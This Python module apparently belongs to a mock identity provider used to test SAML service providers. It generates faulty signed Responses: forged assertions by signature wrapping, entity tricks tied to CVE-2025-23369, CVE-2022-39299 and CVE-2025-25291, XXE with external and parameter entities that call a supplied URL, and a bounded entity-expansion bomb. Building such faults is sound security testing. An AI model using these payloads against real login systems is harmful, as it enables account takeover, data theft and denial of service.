"""Faults in the text of a signed Response: document types, entities, CDATA, two documents in one.

An XML tree could not hold most of these; each is made in the text that is sent. Their signatures hold for
whoever expands what XML says is to be expanded, unless the fault says otherwise.
"""

from __future__ import annotations

import copy
import re
from xml.sax.saxutils import escape

from lxml import etree

from mock_idp.faults.model import FaultCannotApplyError, Param, Params
from mock_idp.faults.registry import fault
from mock_idp.faults.saml.message import NAMES, SamlMessage, email_elements, first_in, replace_email
from mock_idp.faults.saml.text.comments import IDENTITY
from mock_idp.faults.saml.wrapping.forgery import forged_assertion, forged_response, signed_assertion

EMAIL = {"email": Param()}
OTHER_NAMESPACE = "urn:example:no-saml"
ANYWHERE = ("Response", "broken")
_ROOT = re.compile(r"<(?P<name>[\w:.-]*Response)[\s>]")
BOMB_LEVELS, BOMB_WIDTH = 6, 10
"""A million copies of three letters: what a careless parser still survives."""


def rewritten(message: SamlMessage) -> None:
    """Write the text anew from the tree, which the fault has changed."""
    declaration = message.text[: _start(message.text)]
    message.text = declaration + message.spell(message.response)


def _start(text: str) -> int:
    """Where the root element begins."""
    found = _ROOT.search(text)
    if found is None:
        raise FaultCannotApplyError("The message has no Response at its root.")
    return found.start()


def with_doctype(text: str, subset: str = "", *, external: str = "") -> str:
    """The document with a document type declaration before its root element."""
    start = _start(text)
    found = _ROOT.search(text)
    name = found["name"] if found else ""
    inner = f" [{subset}]" if subset else ""
    return f"{text[:start]}<!DOCTYPE {name}{external}{inner}>{text[start:]}"


def _replaced(message: SamlMessage, after: str, rest: str) -> int:
    """Put `rest`, which is markup, behind `after` in every place with the e-mail. Returns how many."""
    texts = {place.text or "" for place in email_elements(message.assertion)}
    count = 0
    for text in texts:
        if text.startswith(after) and text != after:
            count += message.text.count(f">{escape(text)}<")
            message.text = message.text.replace(f">{escape(text)}<", f">{escape(after)}{rest}<")
    if not count:
        raise FaultCannotApplyError(f"No e-mail of the message begins with {after!r} and goes on.")
    return count


def _remainder(message: SamlMessage, after: str) -> str:
    """What follows `after` in the e-mail."""
    found = [place.text or "" for place in email_elements(message.assertion)]
    return next((text[len(after) :] for text in found if text.startswith(after)), "")


@fault(
    "saml.text.cdata", stage="serialised", fault_class="parser", params={"after": Param()}, touches=IDENTITY
)
def cdata(message: SamlMessage, params: Params) -> str:
    """What follows `after` in the e-mail stands in a CDATA section; the signature holds."""
    after = str(params["after"])
    rest = _remainder(message, after)
    count = _replaced(message, after, f"<![CDATA[{rest}]]>")
    return f"In {count} places {rest!r} stands in a CDATA section."


@fault(
    "saml.text.entity", stage="serialised", fault_class="parser", params={"after": Param()}, touches=ANYWHERE
)
def entity(message: SamlMessage, params: Params) -> str:
    """What follows `after` in the e-mail is an internal entity; expanded, the signature holds."""
    after = str(params["after"])
    rest = _remainder(message, after)
    count = _replaced(message, after, "&rest;")
    message.text = with_doctype(message.text, f'<!ENTITY rest "{escape(rest)}">')
    return f"In {count} places {rest!r} is the internal entity &rest;."


@fault("saml.text.entity-id", stage="serialised", fault_class="parser", params=EMAIL, touches=ANYWHERE)
def entity_id(message: SamlMessage, params: Params) -> str:
    """A forged assertion before the signed one has its ID by an internal entity (CVE-2025-23369)."""
    genuine = signed_assertion(message)
    forged = forged_assertion(message, str(params["email"]))
    genuine.addprevious(forged)
    rewritten(message)
    message.text = message.text.replace(f'ID="{forged.get("ID")}"', 'ID="&same;"', 1)
    message.text = with_doctype(message.text, f'<!ENTITY same "{genuine.get("ID")}">')
    return f"An unsigned copy about {params['email']} has the signed one's ID as the entity &same;."


@fault("saml.text.doctype", stage="serialised", fault_class="secrecy", touches=())
def doctype(message: SamlMessage, params: Params) -> str:
    """A document type declaration without any content stands before the Response."""
    del params
    message.text = with_doctype(message.text)
    return "A DOCTYPE was put before the Response."


@fault(
    "saml.text.external-entity",
    stage="serialised",
    fault_class="secrecy",
    params={"url": Param(), "place": Param(choices=("name-id", "attribute", "status-message", "parameter"))},
    touches=ANYWHERE,
)
def external_entity(message: SamlMessage, params: Params) -> str:
    """The document at `url` is an external entity: NameID, e-mail attribute, what the Response reports, DTD.

    Where it stands for the e-mail, the signature holds for whoever loads a document that says the same."""
    url, place = str(params["url"]), params["place"]
    if place == "parameter":
        message.text = with_doctype(message.text, f'<!ENTITY % outside SYSTEM "{url}"> %outside;')
        return f"The external parameter entity {url} is called in the DOCTYPE."
    if place in {"name-id", "attribute"}:
        _email_place(message, str(place)).text = "entity-here"
    else:
        status = message.one("samlp:Status")
        code = message.one("samlp:Status/samlp:StatusCode")
        code.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
        etree.SubElement(status, f"{{{NAMES['samlp']}}}StatusMessage").text = "entity-here"
    rewritten(message)
    message.text = message.text.replace("entity-here", "&outside;")
    message.text = with_doctype(message.text, f'<!ENTITY outside SYSTEM "{url}">')
    return f"The external entity {url} stands in the message: {place}."


def _email_place(message: SamlMessage, place: str) -> etree._Element:
    """The NameID, or the first value of the attribute that holds the e-mail. Raises FaultCannotApplyError."""
    kind = "NameID" if place == "name-id" else "AttributeValue"
    for element in email_elements(message.assertion):
        if etree.QName(element).localname == kind:
            return element
    raise FaultCannotApplyError(
        f"The message has no {kind} with the e-mail, so the fault has nothing to change."
    )


@fault("saml.text.entity-bomb", stage="serialised", fault_class="availability", touches=ANYWHERE)
def entity_bomb(message: SamlMessage, params: Params) -> str:
    """Nested entities in StatusMessage expand to a million times three letters (a bounded dose)."""
    del params
    etree.SubElement(message.one("samlp:Status"), f"{{{NAMES['samlp']}}}StatusMessage").text = "entity-here"
    rewritten(message)
    entities = ['<!ENTITY e0 "lol">']
    for level in range(1, BOMB_LEVELS + 1):
        entities.append(f'<!ENTITY e{level} "{f"&e{level - 1};" * BOMB_WIDTH}">')
    message.text = message.text.replace("entity-here", f"&e{BOMB_LEVELS};")
    message.text = with_doctype(message.text, "".join(entities))
    return f"StatusMessage expands to {BOMB_WIDTH**BOMB_LEVELS} times three letters."


@fault(
    "saml.text.two-roots",
    stage="serialised",
    fault_class="parser",
    params={
        **EMAIL,
        "signed": Param(choices=("assertion", "response")),
        "order": Param(choices=("forged-first", "forged-last")),
    },
    touches=ANYWHERE,
)
def two_roots(message: SamlMessage, params: Params) -> str:
    """The text has two root elements: what the IdP signed, and a forged Response (CVE-2022-39299)."""
    forged = message.spell(forged_response(message, str(params["email"])))
    if params["signed"] == "response":
        signed = message.spell(message.response)
    else:
        genuine = signed_assertion(message)
        signed = message.spell(etree.fromstring(etree.tostring(genuine)))
    both = (forged, signed) if params["order"] == "forged-first" else (signed, forged)
    message.text = message.text[: _start(message.text)] + "".join(both)
    return f"A Response about {params['email']} and the signed {params['signed']}: {params['order']}."


@fault(
    "saml.text.two-documents",
    stage="serialised",
    fault_class="parser",
    params={
        **EMAIL,
        "outer": Param(choices=("genuine", "forged")),
        "forged": Param(required=False, default="unsigned", choices=("unsigned", "as-signed")),
    },
    touches=ANYWHERE,
)
def two_documents(message: SamlMessage, params: Params) -> str:
    """A quoted `>` in the DOCTYPE makes two documents of one text: each kind of parser sees one of them.

    A parser that reads quotes sees the outer one, whose last text is the inner one; a parser that ends the
    DOCTYPE at the first `>` takes the outer one for a comment (CVE-2025-25291). The forged one is unsigned,
    or keeps IDs and Signature: some find a signature in one document and its element in the other."""
    signed_assertion(message)
    genuine = message.spell(message.response)
    if params["forged"] == "unsigned":
        changed = forged_response(message, str(params["email"]))
    else:
        changed = copy.deepcopy(message.response)
        replace_email(first_in(changed, "saml:Assertion"), str(params["email"]))
    forged = message.spell(changed)
    outer, inner = (genuine, forged) if params["outer"] == "genuine" else (forged, genuine)
    opened = [document[: document.rindex("</")] for document in (outer, inner)]
    end = outer[outer.rindex("</") :]
    message.text = f"<!DOCTYPE response SYSTEM 'x\"><!--'>{opened[0]}<![CDATA[-->{opened[1]}<!--]]>-->{end}"
    return f"Two documents in one text; for a parser that reads quotes it is the {params['outer']} one."


@fault(
    "saml.text.other-namespace",
    stage="after-signing",
    fault_class="parser",
    params=EMAIL,
    touches=("Response/Assertion", "Response/Signature"),
)
def other_namespace(message: SamlMessage, params: Params) -> str:
    """An unsigned copy about another e-mail, in a namespace that is not SAML's, stands before the signed one.

    For readers that look for local names it is the first assertion; it is none."""
    genuine = signed_assertion(message)
    text = etree.tostring(forged_assertion(message, str(params["email"])), encoding="unicode")
    genuine.addprevious(etree.fromstring(text.replace(NAMES["saml"], OTHER_NAMESPACE)))
    return f"A copy about {params['email']} in the namespace {OTHER_NAMESPACE} stands before the assertion."
